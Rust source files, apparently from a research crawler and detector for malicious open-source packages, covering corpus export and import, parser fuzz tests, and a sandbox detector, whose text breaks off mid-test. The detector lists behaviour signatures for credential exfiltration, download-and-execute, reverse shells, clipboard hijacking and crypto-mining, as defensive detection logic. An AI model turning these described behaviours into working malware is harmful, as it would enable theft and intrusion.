pub fn delta_value(delta: &CorpusDelta) -> jsonio::Value {
    jsonio::object! {
        "format_version": 1u32,
        "window": delta.window as u64,
        "start": time_value(delta.start),
        "end": time_value(delta.end),
        "website_count": delta.website_count,
        "collect_time": time_value(delta.collect_time),
        "packages": delta
            .packages
            .iter()
            .map(|p| package_value(p, ExportFidelity::Full))
            .collect::<Vec<_>>(),
        "reports": delta.reports.iter().map(report_value).collect::<Vec<_>>(),
    }
}

/// Reads a journal document back into a [`CorpusDelta`].
///
/// # Errors
///
/// Returns [`ExportError`] on unknown format versions or any malformed
/// field, exactly like [`dataset_from_value`].
pub fn delta_from_value(root: &jsonio::Value) -> Result<CorpusDelta, ExportError> {
    let format_version = require(root, "format_version")?
        .as_u64()
        .ok_or_else(|| bad_field("format_version"))?;
    if format_version != 1 {
        return Err(ExportError {
            message: format!("unsupported delta format version {format_version}"),
        });
    }
    let mut packages = Vec::new();
    for entry in require(root, "packages")?
        .as_array()
        .ok_or_else(|| bad_field("packages"))?
    {
        packages.push(read_package(entry)?);
    }
    let mut reports = Vec::new();
    for entry in require(root, "reports")?
        .as_array()
        .ok_or_else(|| bad_field("reports"))?
    {
        reports.push(read_report(entry)?);
    }
    Ok(CorpusDelta {
        window: require(root, "window")?
            .as_u64()
            .ok_or_else(|| bad_field("window"))? as usize,
        start: read_time(require(root, "start")?).ok_or_else(|| bad_field("start"))?,
        end: read_time(require(root, "end")?).ok_or_else(|| bad_field("end"))?,
        packages,
        reports,
        website_count: require(root, "website_count")?
            .as_u64()
            .ok_or_else(|| bad_field("website_count"))? as usize,
        collect_time: read_time(require(root, "collect_time")?)
            .ok_or_else(|| bad_field("collect_time"))?,
    })
}

/// Serializes one window delta as pretty-printed JSON (full fidelity).
pub fn export_delta_json(delta: &CorpusDelta) -> String {
    delta_value(delta).to_pretty()
}

/// Deserializes a delta previously written by [`export_delta_json`].
///
/// # Errors
///
/// Returns [`ExportError`] on malformed JSON or any malformed field.
pub fn import_delta_json(json: &str) -> Result<CorpusDelta, ExportError> {
    let root = jsonio::Value::parse(json).map_err(|e| ExportError {
        message: format!("malformed delta: {e}"),
    })?;
    delta_from_value(&root)
}

fn fetch_health_value(health: &FetchHealth) -> jsonio::Value {
    jsonio::object! {
        "attempts": health.attempts,
        "retries": health.retries,
        "recovered": health.recovered,
        "delivered": health.delivered,
        "dropped": health.dropped,
        "backoff_ms": health.backoff_ms,
    }
}

fn health_value(health: &CollectionHealth) -> jsonio::Value {
    let sources: Vec<jsonio::Value> = health
        .sources
        .iter()
        .map(|(source, h)| {
            let jsonio::Value::Object(mut members) = fetch_health_value(h) else {
                unreachable!("object! builds an object");
            };
            members.insert(0, ("source".to_string(), source.slug().into()));
            jsonio::Value::Object(members)
        })
        .collect();
    jsonio::object! {
        "sources": sources,
        "mirror": fetch_health_value(&health.mirror),
        "report_corpus": fetch_health_value(&health.report_corpus),
    }
}

fn read_fetch_health(value: &jsonio::Value) -> Result<FetchHealth, ExportError> {
    let field = |key: &str| -> Result<u64, ExportError> {
        require(value, key)?
            .as_u64()
            .ok_or_else(|| bad_field("health counter"))
    };
    Ok(FetchHealth {
        attempts: field("attempts")?,
        retries: field("retries")?,
        recovered: field("recovered")?,
        delivered: field("delivered")?,
        dropped: field("dropped")?,
        backoff_ms: field("backoff_ms")?,
    })
}

fn read_health(value: &jsonio::Value) -> Result<CollectionHealth, ExportError> {
    let mut health = CollectionHealth::new();
    for row in require(value, "sources")?
        .as_array()
        .ok_or_else(|| bad_field("health.sources"))?
    {
        let source: SourceId = require(row, "source")?
            .as_str()
            .and_then(|s| s.parse().ok())
            .ok_or_else(|| bad_field("health.sources.source"))?;
        *health.source_mut(source) = read_fetch_health(row)?;
    }
    health.mirror = read_fetch_health(require(value, "mirror")?)?;
    health.report_corpus = read_fetch_health(require(value, "report_corpus")?)?;
    Ok(health)
}

fn require<'v>(value: &'v jsonio::Value, key: &str) -> Result<&'v jsonio::Value, ExportError> {
    value.get(key).ok_or_else(|| ExportError {
        message: format!("malformed manifest: missing field {key:?}"),
    })
}

fn bad_field(name: &str) -> ExportError {
    ExportError {
        message: format!("malformed manifest: invalid field {name:?}"),
    }
}

fn read_time(value: &jsonio::Value) -> Option<SimTime> {
    value.as_u64().map(SimTime::from_minutes)
}

fn read_archive(value: &jsonio::Value) -> Result<Archive, ExportError> {
    let mut dependencies = Vec::new();
    for dep in require(value, "dependencies")?
        .as_array()
        .ok_or_else(|| bad_field("archive.dependencies"))?
    {
        let raw = dep.as_str().ok_or_else(|| bad_field("archive.dependencies"))?;
        dependencies.push(raw.parse().map_err(|_| bad_field("archive.dependencies"))?);
    }
    Ok(Archive {
        description: require(value, "description")?
            .as_str()
            .ok_or_else(|| bad_field("archive.description"))?
            .to_string(),
        code: require(value, "code")?
            .as_str()
            .ok_or_else(|| bad_field("archive.code"))?
            .to_string(),
        dependencies,
    })
}

fn parse_sha256(hex: &str) -> Result<Sha256, ExportError> {
    if hex.len() != 64 || !hex.bytes().all(|b| b.is_ascii_hexdigit()) {
        return Err(ExportError {
            message: format!("bad sha256 {hex:?}"),
        });
    }
    let mut bytes = [0u8; 32];
    for (i, byte) in bytes.iter_mut().enumerate() {
        *byte = u8::from_str_radix(&hex[i * 2..i * 2 + 2], 16).map_err(|_| ExportError {
            message: format!("bad sha256 {hex:?}"),
        })?;
    }
    Ok(Sha256::from_bytes(bytes))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::collect;
    use registry_sim::{World, WorldConfig};

    fn corpus() -> CollectedDataset {
        collect(&World::generate(WorldConfig::small(101)))
    }

    #[test]
    fn full_export_round_trips() {
        let original = corpus();
        let json = export_json(&original, ExportFidelity::Full).unwrap();
        let imported = import_json(&json).unwrap();
        assert_eq!(imported.packages.len(), original.packages.len());
        assert_eq!(imported.reports.len(), original.reports.len());
        assert_eq!(imported.collect_time, original.collect_time);
        for (a, b) in original.packages.iter().zip(&imported.packages) {
            assert_eq!(a.id, b.id);
            assert_eq!(a.signature, b.signature);
            assert_eq!(a.mentions, b.mentions);
            assert_eq!(a.archive, b.archive);
        }
    }

    #[test]
    fn manifest_export_withholds_archives_but_keeps_signatures() {
        let original = corpus();
        let json = export_json(&original, ExportFidelity::ManifestOnly).unwrap();
        let imported = import_json(&json).unwrap();
        assert!(imported.packages.iter().all(|p| p.archive.is_none()));
        let with_sig = imported.packages.iter().filter(|p| p.signature.is_some()).count();
        let orig_sig = original.packages.iter().filter(|p| p.signature.is_some()).count();
        assert_eq!(with_sig, orig_sig, "signatures are the published part");
    }

    #[test]
    fn tampered_archives_are_rejected() {
        let original = corpus();
        let json = export_json(&original, ExportFidelity::Full).unwrap();
        // Corrupt the first inline code field.
        let tampered = json.replacen("\"code\": \"", "\"code\": \"#tampered\\n", 1);
        assert_ne!(json, tampered, "test must actually tamper");
        let err = import_json(&tampered).unwrap_err();
        assert!(err.to_string().contains("signature mismatch"), "{err}");
    }

    #[test]
    fn garbage_and_wrong_versions_are_rejected() {
        assert!(import_json("{").is_err());
        assert!(import_json("{\"format_version\": 99}").is_err());
        let bad_id = r#"{"format_version":1,"collect_time":0,"website_count":0,
            "packages":[{"id":"not-an-id","mentions":[],"sha256":null,
            "recovered_from_mirror":false,"mirror_recoverable":false,"meta":null}],
            "reports":[]}"#;
        assert!(import_json(bad_id).is_err());
    }

    #[test]
    fn health_round_trips_and_legacy_manifests_have_none() {
        let world = World::generate(WorldConfig::small(101));
        // Legacy corpus: no health key in the manifest at all.
        let legacy = collect(&world);
        let json = export_json(&legacy, ExportFidelity::Full).unwrap();
        assert!(!json.contains("\"health\""));
        assert!(import_json(&json).unwrap().health.is_none());
        // Resilient corpus: health survives the round trip exactly.
        let faulty = crate::dataset::collect_with(
            &world,
            &crate::dataset::CollectOptions {
                faults: oss_types::FaultConfig::mixed(0.4),
                ..Default::default()
            },
        );
        let json = export_json(&faulty, ExportFidelity::ManifestOnly).unwrap();
        assert!(json.contains("\"health\""));
        let imported = import_json(&json).unwrap();
        assert_eq!(imported.health, faulty.health);
        assert!(imported.health.unwrap().total().dropped > 0);
    }

    #[test]
    fn reexport_is_byte_exact_including_health() {
        // export → import → export must reproduce the original document
        // byte for byte: every field (including the optional "health"
        // manifest key) survives in the same order, so re-exported
        // corpora diff cleanly against their source. (ISSUE 8 satellite.)
        let world = World::generate(WorldConfig::small(101));
        let clean = collect(&world);
        let faulty = crate::dataset::collect_with(
            &world,
            &crate::dataset::CollectOptions {
                faults: oss_types::FaultConfig::mixed(0.4),
                ..Default::default()
            },
        );
        assert!(faulty.health.is_some(), "fixture must exercise the health key");
        for dataset in [&clean, &faulty] {
            for fidelity in [ExportFidelity::Full, ExportFidelity::ManifestOnly] {
                let first = export_json(dataset, fidelity).unwrap();
                let reexported = export_json(&import_json(&first).unwrap(), fidelity).unwrap();
                assert_eq!(
                    first, reexported,
                    "re-export diverged (fidelity {fidelity:?}, health {})",
                    dataset.health.is_some()
                );
            }
        }
    }

    #[test]
    fn delta_journal_round_trips_exactly() {
        let world = World::generate(WorldConfig::small(101));
        let dataset = collect(&world);
        let plan = registry_sim::WindowPlan::disclosure_quantiles(&world, 3);
        for delta in crate::windows::partition_windows(&dataset, &plan) {
            let json = export_delta_json(&delta);
            let back = import_delta_json(&json).unwrap();
            assert_eq!(back.window, delta.window);
            assert_eq!(back.start, delta.start);
            assert_eq!(back.end, delta.end);
            assert_eq!(back.website_count, delta.website_count);
            assert_eq!(back.collect_time, delta.collect_time);
            assert_eq!(back.packages, delta.packages, "journal must be lossless");
            assert_eq!(back.reports, delta.reports);
            // Re-export is byte-exact, like the corpus manifest.
            assert_eq!(export_delta_json(&back), json);
        }
    }

    #[test]
    fn delta_import_rejects_garbage_and_wrong_versions() {
        assert!(import_delta_json("{").is_err());
        assert!(import_delta_json("{\"format_version\": 9}").is_err());
        assert!(import_delta_json(
            r#"{"format_version":1,"window":0,"start":0,"end":1,
                "website_count":0,"collect_time":1,"packages":"nope","reports":[]}"#
        )
        .is_err());
    }

    #[test]
    fn sha256_parsing() {
        let d = Sha256::digest(b"x");
        assert_eq!(parse_sha256(&d.to_string()).unwrap(), d);
        assert!(parse_sha256("abcd").is_err());
        assert!(parse_sha256(&"g".repeat(64)).is_err());
    }
}
