//! Corpus export/import — the paper's dataset-transparency commitment.
//!
//! §II-D: "We build a website to publish all malicious package names
//! (sources) with their signatures (e.g., MD5 hashes) … so the researcher
//! can identify which package to use in the dataset." This module
//! serializes a [`CollectedDataset`] in two fidelities:
//!
//! * [`ExportFidelity::ManifestOnly`] — names, versions, sources,
//!   disclosure dates and signatures, exactly what the paper's website
//!   publishes (archives are withheld);
//! * [`ExportFidelity::Full`] — additionally the recovered archives, the
//!   form a cooperating lab would exchange.

use crate::dataset::{CollectedDataset, CollectedPackage, CollectedReport};
use crate::registry::RegistryMeta;
use crate::sources::Archive;
use oss_types::{PackageId, Sha256, SimTime, SourceId};
use registry_sim::ReportCategory;
use serde::{Deserialize, Serialize};
use std::fmt;

/// How much of the corpus to export.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ExportFidelity {
    /// Names, sources and signatures only (the public website form).
    ManifestOnly,
    /// Everything, including archives.
    Full,
}

/// An import/export failure.
#[derive(Debug)]
pub struct ExportError {
    message: String,
}

impl fmt::Display for ExportError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "corpus export error: {}", self.message)
    }
}

impl std::error::Error for ExportError {}

#[derive(Debug, Serialize, Deserialize)]
struct Manifest {
    format_version: u32,
    collect_time: SimTime,
    website_count: usize,
    packages: Vec<PackageEntry>,
    reports: Vec<ReportEntry>,
}

#[derive(Debug, Serialize, Deserialize)]
struct PackageEntry {
    id: String,
    mentions: Vec<(SourceId, SimTime)>,
    sha256: Option<String>,
    recovered_from_mirror: bool,
    mirror_recoverable: bool,
    meta: Option<MetaEntry>,
    #[serde(skip_serializing_if = "Option::is_none")]
    archive: Option<Archive>,
}

#[derive(Debug, Clone, Copy, Serialize, Deserialize)]
struct MetaEntry {
    released: SimTime,
    removed: Option<SimTime>,
    downloads: u64,
}

#[derive(Debug, Serialize, Deserialize)]
struct ReportEntry {
    website: String,
    category: ReportCategory,
    published: Option<SimTime>,
    title: String,
    packages: Vec<String>,
    actor: Option<String>,
}

/// Serializes the corpus as pretty-printed JSON.
///
/// # Errors
///
/// Returns [`ExportError`] if serialization fails (it cannot for
/// well-formed corpora; the error path exists for API honesty).
pub fn export_json(
    dataset: &CollectedDataset,
    fidelity: ExportFidelity,
) -> Result<String, ExportError> {
    let manifest = Manifest {
        format_version: 1,
        collect_time: dataset.collect_time,
        website_count: dataset.website_count,
        packages: dataset
            .packages
            .iter()
            .map(|p| PackageEntry {
                id: p.id.to_string(),
                mentions: p.mentions.clone(),
                sha256: p.signature.map(|s| s.to_string()),
                recovered_from_mirror: p.recovered_from_mirror,
                mirror_recoverable: p.mirror_recoverable,
                meta: p.meta.map(|m| MetaEntry {
                    released: m.released,
                    removed: m.removed,
                    downloads: m.downloads,
                }),
                archive: match fidelity {
                    ExportFidelity::Full => p.archive.clone(),
                    ExportFidelity::ManifestOnly => None,
                },
            })
            .collect(),
        reports: dataset
            .reports
            .iter()
            .map(|r| ReportEntry {
                website: r.website.clone(),
                category: r.category,
                published: r.published,
                title: r.title.clone(),
                packages: r.packages.iter().map(|p| p.to_string()).collect(),
                actor: r.actor.clone(),
            })
            .collect(),
    };
    serde_json::to_string_pretty(&manifest).map_err(|e| ExportError {
        message: e.to_string(),
    })
}

/// Deserializes a corpus previously written by [`export_json`].
///
/// Signatures are re-verified against archives when both are present;
/// a mismatch is an error (a corrupted or tampered exchange).
///
/// # Errors
///
/// Returns [`ExportError`] on malformed JSON, unknown format versions,
/// unparseable identities or signature mismatches.
pub fn import_json(json: &str) -> Result<CollectedDataset, ExportError> {
    let manifest: Manifest = serde_json::from_str(json).map_err(|e| ExportError {
        message: format!("malformed manifest: {e}"),
    })?;
    if manifest.format_version != 1 {
        return Err(ExportError {
            message: format!("unsupported format version {}", manifest.format_version),
        });
    }
    let mut packages = Vec::with_capacity(manifest.packages.len());
    for entry in manifest.packages {
        let id: PackageId = entry.id.parse().map_err(|e| ExportError {
            message: format!("bad package id {:?}: {e}", entry.id),
        })?;
        let signature = entry
            .sha256
            .as_deref()
            .map(parse_sha256)
            .transpose()?;
        if let (Some(signature), Some(archive)) = (signature, &entry.archive) {
            let recomputed = registry_sim::campaign::artifact_signature(
                &id,
                &archive.description,
                &archive.dependencies,
                &archive.code,
            );
            if recomputed != signature {
                return Err(ExportError {
                    message: format!("signature mismatch for {id}"),
                });
            }
        }
        packages.push(CollectedPackage {
            id,
            mentions: entry.mentions,
            archive: entry.archive,
            signature,
            recovered_from_mirror: entry.recovered_from_mirror,
            mirror_recoverable: entry.mirror_recoverable,
            meta: entry.meta.map(|m| RegistryMeta {
                released: m.released,
                removed: m.removed,
                downloads: m.downloads,
            }),
        });
    }
    let mut reports = Vec::with_capacity(manifest.reports.len());
    for entry in manifest.reports {
        let mut ids = Vec::with_capacity(entry.packages.len());
        for raw in entry.packages {
            ids.push(raw.parse().map_err(|e| ExportError {
                message: format!("bad report package id {raw:?}: {e}"),
            })?);
        }
        reports.push(CollectedReport {
            website: entry.website,
            category: entry.category,
            published: entry.published,
            title: entry.title,
            packages: ids,
            actor: entry.actor,
        });
    }
    Ok(CollectedDataset {
        packages,
        reports,
        website_count: manifest.website_count,
        collect_time: manifest.collect_time,
    })
}

fn parse_sha256(hex: &str) -> Result<Sha256, ExportError> {
    if hex.len() != 64 || !hex.bytes().all(|b| b.is_ascii_hexdigit()) {
        return Err(ExportError {
            message: format!("bad sha256 {hex:?}"),
        });
    }
    let mut bytes = [0u8; 32];
    for (i, byte) in bytes.iter_mut().enumerate() {
        *byte = u8::from_str_radix(&hex[i * 2..i * 2 + 2], 16).map_err(|_| ExportError {
            message: format!("bad sha256 {hex:?}"),
        })?;
    }
    Ok(Sha256::from_bytes(bytes))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::collect;
    use registry_sim::{World, WorldConfig};

    fn corpus() -> CollectedDataset {
        collect(&World::generate(WorldConfig::small(101)))
    }

    #[test]
    fn full_export_round_trips() {
        let original = corpus();
        let json = export_json(&original, ExportFidelity::Full).unwrap();
        let imported = import_json(&json).unwrap();
        assert_eq!(imported.packages.len(), original.packages.len());
        assert_eq!(imported.reports.len(), original.reports.len());
        assert_eq!(imported.collect_time, original.collect_time);
        for (a, b) in original.packages.iter().zip(&imported.packages) {
            assert_eq!(a.id, b.id);
            assert_eq!(a.signature, b.signature);
            assert_eq!(a.mentions, b.mentions);
            assert_eq!(a.archive, b.archive);
        }
    }

    #[test]
    fn manifest_export_withholds_archives_but_keeps_signatures() {
        let original = corpus();
        let json = export_json(&original, ExportFidelity::ManifestOnly).unwrap();
        let imported = import_json(&json).unwrap();
        assert!(imported.packages.iter().all(|p| p.archive.is_none()));
        let with_sig = imported.packages.iter().filter(|p| p.signature.is_some()).count();
        let orig_sig = original.packages.iter().filter(|p| p.signature.is_some()).count();
        assert_eq!(with_sig, orig_sig, "signatures are the published part");
    }

    #[test]
    fn tampered_archives_are_rejected() {
        let original = corpus();
        let json = export_json(&original, ExportFidelity::Full).unwrap();
        // Corrupt the first inline code field.
        let tampered = json.replacen("\"code\": \"", "\"code\": \"#tampered\\n", 1);
        assert_ne!(json, tampered, "test must actually tamper");
        let err = import_json(&tampered).unwrap_err();
        assert!(err.to_string().contains("signature mismatch"), "{err}");
    }

    #[test]
    fn garbage_and_wrong_versions_are_rejected() {
        assert!(import_json("{").is_err());
        assert!(import_json("{\"format_version\": 99}").is_err());
        let bad_id = r#"{"format_version":1,"collect_time":0,"website_count":0,
            "packages":[{"id":"not-an-id","mentions":[],"sha256":null,
            "recovered_from_mirror":false,"mirror_recoverable":false,"meta":null}],
            "reports":[]}"#;
        assert!(import_json(bad_id).is_err());
    }

    #[test]
    fn sha256_parsing() {
        let d = Sha256::digest(b"x");
        assert_eq!(parse_sha256(&d.to_string()).unwrap(), d);
        assert!(parse_sha256("abcd").is_err());
        assert!(parse_sha256(&"g".repeat(64)).is_err());
    }
}
