//! Fuzz-style property tests: every parser in the collection pipeline
//! must survive arbitrary byte soup — crawlers eat the worst the web
//! serves.

use crawler::sources::{parse_feed, FeedFormat};
use crawler::{extract, html};
use oss_types::SourceId;
use proptest::prelude::*;

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn html_parser_never_panics(input in ".*") {
        let _ = html::parse_events(&input);
        let _ = html::visible_text(&input);
        let _ = html::tag_texts(&input, "code");
    }

    #[test]
    fn html_parser_never_panics_on_taggy_soup(
        parts in proptest::collection::vec(
            prop_oneof![
                Just("<".to_string()),
                Just(">".to_string()),
                Just("</".to_string()),
                Just("<code>".to_string()),
                Just("</code>".to_string()),
                Just("<!".to_string()),
                "[a-z@/.]{0,8}".prop_map(|s| s),
            ],
            0..40,
        )
    ) {
        let input: String = parts.concat();
        let events = html::parse_events(&input);
        // Text events never contain unreconstructed tag markup.
        for event in &events {
            if let html::Event::Text(t) = event {
                prop_assert!(!t.contains("</code>"));
            }
        }
        let _ = extract::parse_report_page(&input);
    }

    #[test]
    fn extractor_never_panics_and_ids_are_valid(input in ".*") {
        for id in extract::extract_package_ids(&input) {
            // Whatever came out must round-trip as a real identity.
            let reparsed: Result<oss_types::PackageId, _> = id.to_string().parse();
            prop_assert!(reparsed.is_ok());
        }
    }

    #[test]
    fn feed_parsers_never_panic(input in ".*", which in 0usize..3) {
        let format = [FeedFormat::JsonDump, FeedFormat::HtmlPage, FeedFormat::SnsText][which];
        let docs = vec![(format, input)];
        let _ = parse_feed(SourceId::Phylum, &docs);
    }

    #[test]
    fn import_json_never_panics(input in ".*") {
        let _ = crawler::import_json(&input);
    }
}
