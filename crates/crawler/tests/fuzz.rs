//! Fuzz-style property tests: every parser in the collection pipeline
//! must survive arbitrary byte soup — crawlers eat the worst the web
//! serves.

use crawler::sources::{parse_feed, FeedFormat};
use crawler::{extract, html, ExportFidelity};
use oss_types::SourceId;
use proptest::prelude::*;
use std::sync::OnceLock;

/// One real exported manifest per fidelity, plus one journal delta —
/// generated once, mangled many times.
fn exported_documents() -> &'static [String; 3] {
    static DOCS: OnceLock<[String; 3]> = OnceLock::new();
    DOCS.get_or_init(|| {
        let world = registry_sim::World::generate(registry_sim::WorldConfig::small(23));
        let dataset = crawler::collect(&world);
        let plan = registry_sim::WindowPlan::disclosure_quantiles(&world, 2);
        let deltas = crawler::partition_windows(&dataset, &plan);
        [
            crawler::export_json(&dataset, ExportFidelity::Full).unwrap(),
            crawler::export_json(&dataset, ExportFidelity::ManifestOnly).unwrap(),
            crawler::export_delta_json(&deltas[0]),
        ]
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn html_parser_never_panics(input in ".*") {
        let _ = html::parse_events(&input);
        let _ = html::visible_text(&input);
        let _ = html::tag_texts(&input, "code");
    }

    #[test]
    fn html_parser_never_panics_on_taggy_soup(
        parts in proptest::collection::vec(
            prop_oneof![
                Just("<".to_string()),
                Just(">".to_string()),
                Just("</".to_string()),
                Just("<code>".to_string()),
                Just("</code>".to_string()),
                Just("<!".to_string()),
                "[a-z@/.]{0,8}".prop_map(|s| s),
            ],
            0..40,
        )
    ) {
        let input: String = parts.concat();
        let events = html::parse_events(&input);
        // Text events never contain unreconstructed tag markup.
        for event in &events {
            if let html::Event::Text(t) = event {
                prop_assert!(!t.contains("</code>"));
            }
        }
        let _ = extract::parse_report_page(&input);
    }

    #[test]
    fn extractor_never_panics_and_ids_are_valid(input in ".*") {
        for id in extract::extract_package_ids(&input) {
            // Whatever came out must round-trip as a real identity.
            let reparsed: Result<oss_types::PackageId, _> = id.to_string().parse();
            prop_assert!(reparsed.is_ok());
        }
    }

    #[test]
    fn feed_parsers_never_panic(input in ".*", which in 0usize..3) {
        let format = [FeedFormat::JsonDump, FeedFormat::HtmlPage, FeedFormat::SnsText][which];
        let docs = vec![(format, input)];
        let _ = parse_feed(SourceId::Phylum, &docs);
    }

    #[test]
    fn import_json_never_panics(input in ".*") {
        let _ = crawler::import_json(&input);
    }

    /// Truncating a real exported manifest (or journal delta) at any
    /// byte boundary never panics the importer — the crash-recovery
    /// ladder depends on torn files surfacing as typed errors.
    #[test]
    fn truncated_exports_never_panic(which in 0usize..3, cut_frac in 0.0f64..1.0) {
        let doc = &exported_documents()[which];
        let mut cut = (doc.len() as f64 * cut_frac) as usize;
        while !doc.is_char_boundary(cut) {
            cut -= 1;
        }
        let truncated = &doc[..cut];
        if which < 2 {
            let _ = crawler::import_json(truncated);
        } else {
            let _ = crawler::import_delta_json(truncated);
        }
    }

    /// Bit-flipping one byte of a real exported manifest never panics
    /// the importer, whatever the flip does to the UTF-8.
    #[test]
    fn mutated_exports_never_panic(which in 0usize..3, pos_frac in 0.0f64..1.0, flip in 1u8..=255) {
        let doc = &exported_documents()[which];
        let mut bytes = doc.clone().into_bytes();
        let pos = ((bytes.len() - 1) as f64 * pos_frac) as usize;
        bytes[pos] ^= flip;
        let text = String::from_utf8_lossy(&bytes);
        if which < 2 {
            let _ = crawler::import_json(&text);
        } else {
            let _ = crawler::import_delta_json(&text);
        }
    }
}
