//! The sandbox (dynamic) detector: execute the package in the
//! effect-tracing interpreter and match behaviour signatures on the
//! trace — flows, not syntax.

use minilang::interp::{run, InterpConfig, Trace};
use minilang::Module;
use std::fmt;

/// A behaviour family inferred from an effect trace.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum BehaviorLabel {
    /// Sensitive read (env/credentials) followed by a network send.
    Exfiltration,
    /// Network fetch followed by process execution.
    DownloadExecute,
    /// Socket connection feeding a process.
    ReverseShell,
    /// Clipboard read/write loop.
    ClipboardHijack,
    /// Miner launch (stratum endpoint + subprocess).
    CryptoMiner,
    /// `eval` of network-derived data.
    RemoteEval,
    /// Hostname/user beacons over DNS.
    Beacon,
    /// Nothing malicious observed.
    Clean,
}

impl BehaviorLabel {
    /// Everything except [`BehaviorLabel::Clean`].
    pub const MALICIOUS: [BehaviorLabel; 7] = [
        BehaviorLabel::Exfiltration,
        BehaviorLabel::DownloadExecute,
        BehaviorLabel::ReverseShell,
        BehaviorLabel::ClipboardHijack,
        BehaviorLabel::CryptoMiner,
        BehaviorLabel::RemoteEval,
        BehaviorLabel::Beacon,
    ];
}

impl fmt::Display for BehaviorLabel {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            BehaviorLabel::Exfiltration => "exfiltration",
            BehaviorLabel::DownloadExecute => "download-execute",
            BehaviorLabel::ReverseShell => "reverse-shell",
            BehaviorLabel::ClipboardHijack => "clipboard-hijack",
            BehaviorLabel::CryptoMiner => "cryptominer",
            BehaviorLabel::RemoteEval => "remote-eval",
            BehaviorLabel::Beacon => "beacon",
            BehaviorLabel::Clean => "clean",
        })
    }
}

/// Result of a sandbox run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DynamicVerdict {
    /// Behaviour labels observed (possibly several).
    pub labels: Vec<BehaviorLabel>,
    /// The raw API set, for forensics.
    pub apis: Vec<String>,
}

impl DynamicVerdict {
    /// Whether any malicious behaviour was observed.
    pub fn malicious(&self) -> bool {
        self.labels.iter().any(|l| *l != BehaviorLabel::Clean)
    }
}

/// The sandbox detector.
#[derive(Debug, Clone)]
pub struct DynamicDetector {
    config: InterpConfig,
}

impl DynamicDetector {
    /// Creates a detector with the given fuel budget.
    pub fn new(fuel: u64) -> Self {
        DynamicDetector {
            config: InterpConfig { fuel },
        }
    }

    /// Runs a module in the sandbox and labels the trace.
    pub fn analyze(&self, module: &Module) -> DynamicVerdict {
        let trace = run(module, &self.config);
        let labels = label_trace(&trace);
        DynamicVerdict {
            labels,
            apis: trace.apis().iter().map(|a| a.to_string()).collect(),
        }
    }

    /// Parses and analyzes source text; unparseable code yields a clean
    /// verdict (a real sandbox would flag it for manual review).
    pub fn analyze_source(&self, source: &str) -> DynamicVerdict {
        match minilang::parse(source) {
            Ok(module) => self.analyze(&module),
            Err(_) => DynamicVerdict {
                labels: vec![BehaviorLabel::Clean],
                apis: Vec::new(),
            },
        }
    }
}

impl Default for DynamicDetector {
    fn default() -> Self {
        DynamicDetector::new(InterpConfig::default().fuel)
    }
}

/// Matches behaviour signatures against an effect trace.
pub fn label_trace(trace: &Trace) -> Vec<BehaviorLabel> {
    let mut labels = Vec::new();
    // One pass over the trace collects every signature flag at once;
    // a per-flag `touched()` scan would walk the effect list eleven
    // times for each sandboxed package.
    let mut sends = false;
    let mut fetches = false;
    let mut sensitive_read = false;
    let mut spawns = false;
    let mut socketed = false;
    let mut dns = false;
    let mut clip_read = false;
    let mut clip_write = false;
    let mut evals = false;
    let mut miner_hint = false;
    for e in &trace.effects {
        let api: &str = &e.api;
        sends |= api.starts_with("requests.post");
        fetches |= api.starts_with("requests.get");
        sensitive_read |= api.starts_with("os.environ")
            || api.starts_with("os.getenv")
            || api.starts_with("glob.glob")
            || api.starts_with("os.read_file");
        spawns |= api.starts_with("subprocess.");
        socketed |= api.starts_with("socket.socket");
        dns |= api.starts_with("socket.gethostbyname");
        clip_read |= api.starts_with("clipboard.paste");
        clip_write |= api.starts_with("clipboard.copy");
        evals |= api.starts_with("eval");
        miner_hint |= e.args.iter().any(|a| a.contains("stratum://"));
    }

    if sensitive_read && sends {
        labels.push(BehaviorLabel::Exfiltration);
    }
    if fetches && spawns && miner_hint {
        labels.push(BehaviorLabel::CryptoMiner);
    } else if fetches && spawns {
        labels.push(BehaviorLabel::DownloadExecute);
    }
    if socketed && spawns {
        labels.push(BehaviorLabel::ReverseShell);
    }
    if clip_read && clip_write {
        labels.push(BehaviorLabel::ClipboardHijack);
    }
    if evals && fetches {
        labels.push(BehaviorLabel::RemoteEval);
    }
    if dns {
        labels.push(BehaviorLabel::Beacon);
    }
    if labels.is_empty() {
        labels.push(BehaviorLabel::Clean);
    }
    labels
}

/// The expected dynamic label for each generator behaviour family, used
/// by the evaluation harness and tests.
pub fn expected_label(behavior: minilang::gen::Behavior) -> BehaviorLabel {
    use minilang::gen::Behavior;
    match behavior {
        Behavior::ExfilEnv | Behavior::ExfilAws | Behavior::InfoStealer => {
            BehaviorLabel::Exfiltration
        }
        Behavior::DownloadExecute => BehaviorLabel::DownloadExecute,
        Behavior::ReverseShell => BehaviorLabel::ReverseShell,
        Behavior::ClipboardHijack => BehaviorLabel::ClipboardHijack,
        Behavior::CryptoMiner => BehaviorLabel::CryptoMiner,
        Behavior::Backdoor => BehaviorLabel::RemoteEval,
        Behavior::DnsBeacon => BehaviorLabel::Beacon,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use minilang::gen::{generate, generate_benign, Behavior};
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn labels_match_generated_behaviors() {
        let detector = DynamicDetector::default();
        let mut rng = StdRng::seed_from_u64(1);
        for behavior in Behavior::ALL {
            let mut correct = 0;
            for _ in 0..8 {
                let module = generate(behavior, &mut rng);
                let verdict = detector.analyze(&module);
                if verdict.labels.contains(&expected_label(behavior)) {
                    correct += 1;
                }
            }
            assert!(
                correct >= 6,
                "{behavior}: expected label {} found only {correct}/8 times",
                expected_label(behavior)
            );
        }
    }

    #[test]
    fn benign_code_is_clean() {
        let detector = DynamicDetector::default();
        let mut rng = StdRng::seed_from_u64(2);
        for _ in 0..30 {
            let module = generate_benign(&mut rng);
            let verdict = detector.analyze(&module);
            assert!(
                !verdict.malicious(),
                "benign module labeled {:?}",
                verdict.labels
            );
        }
    }

    #[test]
    fn unparseable_source_is_clean_not_fatal() {
